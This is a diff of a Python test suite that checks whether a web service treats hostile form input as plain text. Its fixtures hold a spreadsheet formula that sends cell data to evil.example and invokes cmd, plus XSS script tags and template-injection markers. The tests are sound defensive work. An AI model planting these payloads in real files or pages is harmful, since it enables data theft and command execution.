@@ -34,7 +34,7 @@ FORMULA = f'=HYPERLINK("http://evil.example/?"&A1;"{MARK} 点这里")+cmd|\' /C 
 PLAIN = f"<script>alert('{MARK}')</script> =1+1 {{{{91*97}}}}"  # where only ASCII may stand
 LONG = "W" * 700 + "长" * 700
 BROKEN = "\0 \ud800"  # which JSON over the wire may not hold, but files did
-NAME = f"<b>{MARK}<b>\"'{{{{91*97}}}}<script>x"  # people are named by visible text
+NAME = f"<b>{MARK}<b>\"'{{{{91*97}}}}<script>x"  # people are named by visible text without a slash
 TEXTS = {
     "en": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} where is my refund? {LONG}",
     "zh": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} 我的退款还没有到账 {LONG}",
@@ -127,7 +127,7 @@ def check(reply: Response) -> None:
     if kind in ("application/json", "application/problem+json"):
         json.loads(reply.text)
         return
-    if kind != "text/html" or reply.url.path.startswith("/docs"):
+    if kind != "text/html":
         assert MARK not in reply.text
         return
     text = reply.content.decode("utf-8")
@@ -182,7 +182,7 @@ def test_every_form_takes_it_as_text(serve: Serve) -> None:
         check(browser.post(path, json={"reviewer": NAME, "items": [{"id": HTML, "category": HTML, "note": HTML}], "note": HTML}))
 
 
-@pytest.mark.parametrize("name", ["a\0b", "\u202ea", "a\u200bb", "a\x1b[2Jb", "a\nb"])
+@pytest.mark.parametrize("name", ["a/b", "a\0b", "\u202ea", "a\u200bb", "a\x1b[2Jb", "a\nb"])
 def test_nobody_is_named_by_what_cannot_be_seen(serve: Serve, name: str) -> None:
     """Neither here nor by password."""
     served = serve()
